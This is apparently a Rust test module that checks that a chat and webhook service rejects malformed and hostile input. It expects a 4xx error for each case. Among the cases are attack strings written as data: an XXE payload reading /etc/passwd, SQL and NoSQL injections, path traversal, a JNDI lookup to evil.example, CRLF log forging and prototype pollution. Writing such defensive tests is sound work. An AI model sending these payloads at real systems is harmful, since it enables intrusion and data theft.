//! Input that is no input: wrong types, wrong depth, wrong size, injections.

use reqwest::Method;
use serde_json::json;

use super::fort::{Case, Fort, case};

pub(super) fn cases(fort: &Fort) -> Vec<Case> {
    let say = |body: String| {
        let post = fort.post(&fort.own("/activities")).bearer_auth(&fort.page.token);
        post.header("content-type", "application/json").body(body)
    };
    let hook = |body: String| fort.webhook().body(body);
    let read = |query: &str| {
        fort.get(&fort.own(&format!("/activities{query}"))).bearer_auth(&fort.page.token)
    };
    let look = |path: &str| fort.console(Method::GET, path, &fort.admin);
    let deep = |n: usize| format!("{}{}", "[".repeat(n), "]".repeat(n));
    let text = |text: &str| json!({"type": "message", "text": text}).to_string();
    let start = |body: &str| {
        fort.post("/v3/directline/conversations")
            .bearer_auth(super::fort::OTHER_SITE)
            .body(body.to_owned())
    };
    vec![
        case("a thousand brackets", say(deep(1_000)), 400, "BadArgument"),
        case("a thousand brackets at the webhook", hook(format!("{{\"body\":{}}}", deep(1_000))), 400, "too_deep"),
        case("a type that is an object", say(json!({"type": {"a": 1}, "text": "x"}).to_string()), 400, "BadArgument"),
        case("a text that is a list", say(json!({"type": "message", "text": ["x"]}).to_string()), 400, "BadArgument"),
        case("a quarter of a megabyte of words", say(text(&"x".repeat(262_144))), 413, "TooLarge"),
        case("two megabytes at the webhook", hook(" ".repeat(2 * 1024 * 1024)), 413, "too_large"),
        case("a number of a hundred thousand digits at the webhook", hook("9".repeat(100_000)), 400, "not_an_object"),
        case("a JSON bomb of names", hook(format!("{{{}", "\"a\":{".repeat(500))), 400, "too_deep"),
        case("XML with an external entity", hook("<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>".to_owned()), 400, "not_json"),
        case("a form", hook("requestId=1&completed=true".to_owned()), 400, "not_json"),
        case("NaN", hook("{\"completed\":NaN}".to_owned()), 400, "not_json"),
        case("a comment in JSON", hook("{/*x*/\"completed\":true}".to_owned()), 400, "not_json"),
        case("SQL in a requestId", fort.webhook().json(&fort.told(&json!({"requestId": "x'; DROP TABLE session; --"}))), 400, "unknown_request"),
        case("a path in a requestId", fort.webhook().json(&fort.told(&json!({"requestId": "../../etc/passwd"}))), 400, "unknown_request"),
        case("a template in a requestId", fort.webhook().json(&fort.told(&json!({"requestId": "${jndi:ldap://evil.example/a}"}))), 400, "unknown_request"),
        case("a line end in a requestId", fort.webhook().json(&fort.told(&json!({"requestId": "x\r\nERROR forged line"}))), 400, "unknown_request"),
        case("a prototype in a requestId", fort.webhook().json(&fort.told(&json!({"requestId": {"__proto__": {}}}))), 400, "bad_field"),
        case("SQL in a watermark", read("?watermark=1%20OR%201=1"), 400, "BadArgument"),
        case("a watermark of thirty digits", read(&format!("?watermark={}", "9".repeat(30))), 400, "BadArgument"),
        case("a watermark twice", read("?watermark=1&watermark=2"), 400, "BadArgument"),
        case("a watermark in Arabic digits", read("?watermark=%D9%A1"), 400, "BadArgument"),
        case("a user's id that is an object", start("{\"user\":{\"id\":{\"$gt\":\"\"}}}"), 400, "BadArgument"),
        case("a start that is no JSON", start("{\"user\":"), 400, "BadArgument"),
        case("a user's id of a megabyte", start(&json!({"user": {"id": format!("dl_{}", "x".repeat(1 << 20))}}).to_string()), 413, "TooLarge"),
        case("SQL in a session's id", look("sessions/ses_1'%20OR%20'1'='1"), 404, "no_such_session"),
        case("a null byte in a session's id", look("sessions/%00"), 404, "no_such_session"),
        case("bytes that are no text in an id", look("sessions/%ff%fe"), 404, "no_such_session"),
        case("a limit below zero", look("sessions?limit=-1"), 400, "bad_query"),
        case("a limit of a billion", look("sessions?limit=1000000000"), 400, "bad_query"),
        case("a limit that overflows", look("sessions?limit=99999999999999999999"), 400, "bad_query"),
        case("a filter that nobody knows", look("sessions?where=1=1"), 400, "bad_query"),
        case("a filter twice", look("sessions?tenant=other&tenant=default"), 400, "bad_query"),
        case("a deed that nobody knows", look("audit?deed=everything"), 400, "bad_query"),
        case("a tenant that is a path", look("audit?tenant=%00"), 400, "bad_query"),
    ]
}
